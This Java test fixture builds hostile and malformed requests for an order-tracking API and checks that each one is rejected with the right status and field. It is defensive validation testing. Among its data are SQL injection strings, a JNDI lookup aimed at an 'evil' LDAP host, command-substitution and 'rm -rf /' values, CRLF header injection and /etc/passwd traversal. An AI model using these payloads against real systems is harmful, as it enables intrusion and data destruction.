package io.ordertracker.functions.ordersapi;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;

/**
 * Requests no merchant should send. Each case names the field the answer must name, and the status family.
 * Built from one valid order by breaking one thing at a time, so each case tests exactly one rule.
 */
final class HostileInputCorpus {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory F = JsonNodeFactory.instance;

    enum Target { CREATE, ADD_SHIPMENT, GET, ERASE }

    /**
     * @param body           the raw body (JSON text, possibly broken), or null
     * @param base64Body     send the body base64-encoded (binary bodies)
     * @param headers        extra request headers
     * @param pathOrderNumber for GET / ADD_SHIPMENT / ERASE
     */
    record Case(String name, Target target, String body, boolean base64Body, Map<String, String> headers,
                String pathOrderNumber, int expectedStatus, String expectedField) {
        @Override
        public String toString() {
            return name;
        }
    }

    static final String VALID = """
            {"orderNumber":"H-1","customer":{"name":"Ada","email":"ada@example.com","phone":"+15555550123",
            "timeZone":"America/New_York","locale":"en-US"},"items":[{"name":"Mug","quantity":1,"sku":"MUG-1"}],
            "promisedDeliveryDate":"2026-11-25","shipments":[{"carrier":"ups","trackingNumber":"1Z5R89390357567127"}]}""";

    static List<Case> all() {
        List<Case> cases = new ArrayList<>();
        malformedBodies(cases);
        wrongTypes(cases);
        missingFields(cases);
        oversized(cases);
        controlCharacters(cases);
        badValues(cases);
        headersAndMediaTypes(cases);
        addShipmentBodies(cases);
        hostilePaths(cases);
        return cases;
    }

    private static ObjectNode valid() {
        try {
            return (ObjectNode) JSON.readTree(VALID);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /** The valid order with the value at {@code path} (a.b[0].c) replaced, or removed when value is null. */
    static String with(String path, JsonNode value) {
        ObjectNode root = valid();
        String[] parts = path.split("\\.");
        JsonNode parent = root;
        for (int i = 0; i < parts.length - 1; i++) {
            parent = step(parent, parts[i]);
        }
        String last = parts[parts.length - 1];
        if (last.endsWith("]")) {
            ArrayNode array = (ArrayNode) step(parent, last.substring(0, last.indexOf('[')));
            int index = Integer.parseInt(last.substring(last.indexOf('[') + 1, last.length() - 1));
            if (value == null) {
                array.remove(index);
            } else {
                array.set(index, value);
            }
        } else if (value == null) {
            ((ObjectNode) parent).remove(last);
        } else {
            ((ObjectNode) parent).set(last, value);
        }
        return root.toString();
    }

    private static JsonNode step(JsonNode node, String part) {
        if (part.endsWith("]")) {
            String name = part.substring(0, part.indexOf('['));
            int index = Integer.parseInt(part.substring(part.indexOf('[') + 1, part.length() - 1));
            return node.get(name).get(index);
        }
        return node.get(part);
    }

    private static void add(List<Case> cases, String name, String body, int status, String field) {
        cases.add(new Case(name, Target.CREATE, body, false, Map.of(), null, status, field));
    }

    private static void malformedBodies(List<Case> cases) {
        String[] bodies = {
            "", " ", "\n", "{", "}", "[", "[]", "[{}]", "null", "true", "false", "0", "-1", "1e400", "\"order\"",
            "{\"orderNumber\":}", "{'orderNumber':'1'}", "{orderNumber:\"1\"}", "{\"orderNumber\":\"1\",}",
            VALID + " trailing", VALID + VALID, "{\"orderNumber\":\"1\" \"customer\":{}}", "{\"a\":NaN}",
            "{\"a\":Infinity}", "/* comment */" + VALID, "{\"orderNumber\":\"unterminated}",
            "{\"orderNumber\":\"bad escape \\x41\"}", "{\"orderNumber\":\"\\u12\"}",
            "[".repeat(100) + "]".repeat(100), "{\"a\":".repeat(60) + "1" + "}".repeat(60),
            "{\"orderNumber\":\"H-1\",\"orderNumber\":\"H-2\",\"customer\":{\"email\":\"a@example.com\"}}",
            "{\"orderNumber\":0x10}", "{\"orderNumber\":01}", "<order><number>1</number></order>",
            "orderNumber=1&customer=x", "\u0000", "{\"orderNumber\":\"1\"}\u0000",
        };
        for (int i = 0; i < bodies.length; i++) {
            add(cases, "malformed body #" + i, bodies[i], 400, "body");
        }
        cases.add(new Case("invalid UTF-8 bytes", Target.CREATE,
                Base64.getEncoder().encodeToString(new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'}),
                true, Map.of(), null, 400, "body"));
        cases.add(new Case("overlong UTF-8 encoding", Target.CREATE,
                Base64.getEncoder().encodeToString(new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC0, (byte) 0xAF, '"', '}'}),
                true, Map.of(), null, 400, "body"));
        cases.add(new Case("not base64 at all", Target.CREATE, "%%%not-base64%%%", true, Map.of(), null, 400, "body"));
        cases.add(new Case("UTF-16 body", Target.CREATE,
                Base64.getEncoder().encodeToString(VALID.getBytes(StandardCharsets.UTF_16)), true, Map.of(), null, 400, "body"));
    }

    private static final String[] STRING_FIELDS = {
        "orderNumber", "customer.name", "customer.email", "customer.phone", "customer.timeZone", "customer.locale",
        "items[0].name", "items[0].sku", "promisedDeliveryDate", "shipments[0].carrier", "shipments[0].trackingNumber",
    };

    private static void wrongTypes(List<Case> cases) {
        JsonNode[] notStrings = {F.numberNode(123), F.numberNode(1.5), F.booleanNode(true), F.arrayNode(),
            F.objectNode(), F.arrayNode().add("x")};
        for (String field : STRING_FIELDS) {
            for (JsonNode value : notStrings) {
                add(cases, field + " as " + value, with(field, value), 422, field);
            }
        }
        JsonNode[] notObjects = {F.textNode("x"), F.numberNode(1), F.booleanNode(false), F.arrayNode()};
        for (String field : new String[] {"customer", "items[0]", "shipments[0]"}) {
            for (JsonNode value : notObjects) {
                add(cases, field + " as " + value, with(field, value), 422, field);
            }
        }
        JsonNode[] notArrays = {F.textNode("x"), F.numberNode(1), F.booleanNode(true), F.objectNode()};
        for (String field : new String[] {"items", "shipments"}) {
            for (JsonNode value : notArrays) {
                add(cases, field + " as " + value, with(field, value), 422, field);
            }
        }
        JsonNode[] badQuantities = {F.textNode("1"), F.numberNode(1.5), F.booleanNode(true), F.arrayNode(),
            F.objectNode(), F.numberNode(0), F.numberNode(-1), F.numberNode(10_001), F.numberNode(1e10),
            F.numberNode(Long.MAX_VALUE), F.numberNode(new java.math.BigInteger("99999999999999999999"))};
        for (JsonNode q : badQuantities) {
            add(cases, "items[0].quantity as " + q, with("items[0].quantity", q), 422, "items[0].quantity");
        }
    }

    private static void missingFields(List<Case> cases) {
        add(cases, "no orderNumber", with("orderNumber", null), 422, "orderNumber");
        add(cases, "null orderNumber", with("orderNumber", F.nullNode()), 422, "orderNumber");
        add(cases, "no customer", with("customer", null), 422, "customer");
        add(cases, "null customer", with("customer", F.nullNode()), 422, "customer");
        add(cases, "no item name", with("items[0].name", null), 422, "items[0].name");
        add(cases, "no carrier", with("shipments[0].carrier", null), 422, "shipments[0].carrier");
        add(cases, "no tracking number", with("shipments[0].trackingNumber", null), 422, "shipments[0].trackingNumber");
        add(cases, "customer with neither email nor phone",
                with("customer", F.objectNode().put("name", "Ada").put("timeZone", "UTC")), 422, "customer.email");
        add(cases, "empty object", "{}", 422, "orderNumber");
        for (String field : STRING_FIELDS) {
            add(cases, field + " empty", with(field, F.textNode("")), 422, field);
            add(cases, field + " blank", with(field, F.textNode("   \t ")), 422, field);
        }
    }

    private static void oversized(List<Case> cases) {
        for (String field : STRING_FIELDS) {
            add(cases, field + " 10k chars", with(field, F.textNode("A".repeat(10_000))), 422, field);
        }
        add(cases, "name of 201 chars", with("customer.name", F.textNode("n".repeat(201))), 422, "customer.name");
        add(cases, "orderNumber of 65 chars", with("orderNumber", F.textNode("1".repeat(65))), 422, "orderNumber");
        add(cases, "email of 255 chars", with("customer.email", F.textNode("a".repeat(243) + "@example.com")), 422, "customer.email");
        add(cases, "body over 64 KiB", with("customer.name", F.textNode("x".repeat(70_000))), 413, "body");
        add(cases, "body of 1 MiB", "{\"orderNumber\":\"" + "1".repeat(1 << 20) + "\"}", 413, "body");
        ArrayNode items = F.arrayNode();
        for (int i = 0; i < 101; i++) {
            items.add(F.objectNode().put("name", "i" + i).put("quantity", 1));
        }
        add(cases, "101 items", with("items", items), 422, "items");
        ArrayNode shipments = F.arrayNode();
        for (int i = 0; i < 21; i++) {
            shipments.add(F.objectNode().put("carrier", "dhl").put("trackingNumber", String.valueOf(1_000_000_000L + i)));
        }
        add(cases, "21 shipments", with("shipments", shipments), 422, "shipments");
        ArrayNode twice = F.arrayNode();
        twice.add(F.objectNode().put("carrier", "dhl").put("trackingNumber", "1234567890"));
        twice.add(F.objectNode().put("carrier", "DHL").put("trackingNumber", "12345 67890"));
        add(cases, "same parcel twice", with("shipments", twice), 422, "shipments[1].trackingNumber");
    }

    private static void controlCharacters(List<Case> cases) {
        String[] chars = {"\u0000", "\u0007", "\n", "\r\n", "\u001b[31m", "\u007f", "\u202e", "\u2028", "\ud800", "\u2066"};
        String[] fields = {"orderNumber", "customer.name", "customer.email", "customer.timeZone", "items[0].name",
            "items[0].sku", "shipments[0].trackingNumber"};
        for (String field : fields) {
            for (String c : chars) {
                String name = "%s with U+%04X".formatted(field, (int) c.charAt(0));
                // Sent as JSON escapes, the only way a lone surrogate can travel in UTF-8.
                String escaped = c.chars().mapToObj(ch -> "\\u%04x".formatted(ch)).reduce("", String::concat);
                add(cases, name, with(field, F.textNode("abMARKcd")).replace("MARK", escaped), 422, field);
            }
        }
    }

    private static void badValues(List<Case> cases) {
        String[] emails = {"plainaddress", "@example.com", "ada@", "ada@example", "ada@@example.com", "ada example@x.com",
            "ada@exa mple.com", "<ada@example.com>", "ada@example.com>", "\"ada\"@example.com", "ada@.example.com",
            "ada@example..com", "ada@-example.com", "ada@example.com.", "ada(comment)@example.com", "ada@[127.0.0.1]",
            "ada@example.com;rm -rf /", ".ada@example.com", "ada.@example.com", "a..da@example.com", "ada@exämple.com", "Ada <ada@example.com>"};
        for (String e : emails) {
            add(cases, "email " + e, with("customer.email", F.textNode(e)), 422, "customer.email");
        }
        String[] phones = {"5555550123", "+0 555 555 0123", "+1 555 555 0123", "+1-555-555-0123", "+1(555)5550123",
            "001555550123", "+1", "+12345", "+1234567890123456", "+1555555012a", "++15555550123", "tel:+15555550123",
            "+15555550123 ext 2", "＋15555550123", "+١٥٥٥٥٥٥٠١٢٣"};
        for (String p : phones) {
            add(cases, "phone " + p, with("customer.phone", F.textNode(p)), 422, "customer.phone");
        }
        String[] zones = {"EST", "PST", "GMT+2", "+02:00", "Z", "UTC+1", "America/Nowhere", "america/new_york",
            "Mars/Olympus_Mons", "../../etc/passwd", "America/New_York;DROP TABLE", "Europe/Berlin/Extra", "Local", "0", "US/Eastern\u0000"};
        for (String z : zones) {
            String expected = "customer.timeZone";
            add(cases, "time zone " + z.replace("\u0000", "\\0"), with(expected, F.textNode(z)), 422, expected);
        }
        String[] locales = {"english", "en_US_POSIX_x", "123", "e", "en-", "-US", "en--US", "x-private-only"};
        for (String l : locales) {
            add(cases, "locale " + l, with("customer.locale", F.textNode(l)), 422, "customer.locale");
        }
        String[] carriers = {"royalmail", "UPSS", "fed ex", "usps2", "dhl-express", "ups;", "<ups>", "ups\u0000",
            "amazon", "laser-ship", "*", "%"};
        for (String c : carriers) {
            add(cases, "carrier " + c.replace("\u0000", "\\0"), with("shipments[0].carrier", F.textNode(c)), 422, "shipments[0].carrier");
        }
        String[][] numbers = {
            {"ups", "1Z5R89390357567128"}, {"ups", "1Z5R8939035756712"}, {"ups", "1Z5R893903575671277"},
            {"ups", "2Z5R89390357567127"}, {"ups", "1Z5R8939O357567127"}, {"ups", "123456789012"},
            {"ups", "1Z*R89390357567127"}, {"ups", "1Z5R89390357567127'--"},
            {"fedex", "12345678901"}, {"fedex", "1234567890123"}, {"fedex", "12345678901A"}, {"fedex", "1Z5R89390357567127"},
            {"fedex", "123456789012345678901234567890123456789"}, {"fedex", "+123456789012"},
            {"usps", "8400100000000000000001"}, {"usps", "940010000000000000000"}, {"usps", "EA123456789GB"},
            {"usps", "EA12345678US"}, {"usps", "94001000000000000000011"}, {"usps", "ABCDEFGHIJKLMNOPQRSTUV"},
            {"dhl", "123"}, {"dhl", "123456789"}, {"dhl", "JJD000390007898956"}, {"dhl", "GM12"}, {"dhl", "ZZ12345678"},
            {"dhl", "12345678901234567890123456789012345678901"}, {"dhl", "1234567890$"},
            {"usps", "${jndi:ldap://x/a}"}, {"fedex", "' OR '1'='1"}, {"dhl", "<script>alert(1)</script>"},
        };
        for (String[] n : numbers) {
            String body = with("shipments[0]", F.objectNode().put("carrier", n[0]).put("trackingNumber", n[1]));
            add(cases, n[0] + " number " + n[1], body, 422, "shipments[0].trackingNumber");
        }
        String[] dates = {"2026-13-01", "2026-02-30", "26-11-25", "2026/11/25", "25.11.2026", "2026-11-25T10:00:00Z",
            "1999-12-31", "2101-01-01", "tomorrow", "2026-1-5", "+2026-11-25"};
        for (String d : dates) {
            add(cases, "date " + d, with("promisedDeliveryDate", F.textNode(d)), 422, "promisedDeliveryDate");
        }
        String[] orderNumbers = {"' OR 1=1 --", "1; DROP TABLE orders", "{\"$gt\":\"\"}", "../../etc/passwd",
            "<script>alert(1)</script>", "${jndi:ldap://evil/a}", "{{7*7}}", "#{7*7}", "%00", "1001\r\nX-Injected: 1",
            "ORDER#m_other#1001", "a/b", "a b", "-leading-dash", ".hidden", "_underscore", "ÖRDER-1", "1001%2F..",
            "１００１", "order|1", "order#1", "`id`", "$(id)", "&amp;1", "\\\\server\\share"};
        for (String o : orderNumbers) {
            add(cases, "orderNumber " + o.replace("\r\n", "\\r\\n"), with("orderNumber", F.textNode(o)), 422, "orderNumber");
        }
    }

    private static void headersAndMediaTypes(List<Case> cases) {
        String[] types = {"text/plain", "application/xml", "multipart/form-data; boundary=x",
            "application/x-www-form-urlencoded", "text/html", "application/jsonx", "image/png"};
        for (String t : types) {
            cases.add(new Case("content type " + t, Target.CREATE, VALID, false, Map.of("content-type", t), null, 415, "Content-Type"));
        }
        String[] keys = {"", " ", "k".repeat(256), "clé-unicode", "key\u0001", "key with spaces", "tab\tkey"};
        for (String k : keys) {
            cases.add(new Case("idempotency key '" + k.replace("\u0001", "\\1").replace("\t", "\\t") + "'".substring(0, 1)
                    + (k.length() > 20 ? " (" + k.length() + " chars)" : ""), Target.CREATE, VALID, false,
                    Map.of("idempotency-key", k), null, 400, "Idempotency-Key"));
        }
    }

    private static void addShipmentBodies(List<Case> cases) {
        String[][] bodies = {
            {"", "body"}, {"[]", "body"}, {"{", "body"}, {"null", "body"}, {"\"x\"", "body"},
            {"{}", "carrier"}, {"{\"carrier\":\"ups\"}", "trackingNumber"}, {"{\"trackingNumber\":\"1234567890\"}", "carrier"},
            {"{\"carrier\":1,\"trackingNumber\":\"1234567890\"}", "carrier"},
            {"{\"carrier\":\"dhl\",\"trackingNumber\":1234567890}", "trackingNumber"},
            {"{\"carrier\":\"dhl\",\"trackingNumber\":[\"1234567890\"]}", "trackingNumber"},
            {"{\"carrier\":\"tnt\",\"trackingNumber\":\"1234567890\"}", "carrier"},
            {"{\"carrier\":\"ups\",\"trackingNumber\":\"1Z5R89390357567128\"}", "trackingNumber"},
            {"{\"carrier\":\"dhl\",\"trackingNumber\":\"12\\u00003456789\"}", "trackingNumber"},
            {"{\"carrier\":\"dhl\",\"trackingNumber\":\"" + "9".repeat(500) + "\"}", "trackingNumber"},
        };
        for (String[] b : bodies) {
            int status = b[1].equals("body") ? 400 : 422;
            cases.add(new Case("add shipment " + b[0].substring(0, Math.min(40, b[0].length())), Target.ADD_SHIPMENT,
                    b[0], false, Map.of(), "H-EXISTING", status, b[1]));
        }
    }

    private static void hostilePaths(List<Case> cases) {
        String[] paths = {"' OR 1=1 --", "../ORDER#x", "<b>", "%2e%2e", "a".repeat(65), "", " ", "ORDER#m_x#1",
            "1001\u0000", "${jndi:x}"};
        for (String p : paths) {
            cases.add(new Case("GET order '" + p.replace("\u0000", "\\0").substring(0, Math.min(20, p.replace("\u0000", "\\0").length())) + "'",
                    Target.GET, null, false, Map.of(), p, 404, "orderNumber"));
            cases.add(new Case("DELETE order '" + p.replace("\u0000", "\\0").substring(0, Math.min(20, p.replace("\u0000", "\\0").length())) + "'",
                    Target.ERASE, null, false, Map.of(), p, 404, "orderNumber"));
        }
        // A number this merchant never created (the control test creates H-1 for another merchant).
        cases.add(new Case("DELETE an order number this merchant does not have", Target.ERASE, null, false, Map.of(),
                "H-1", 404, "orderNumber"));
    }
}
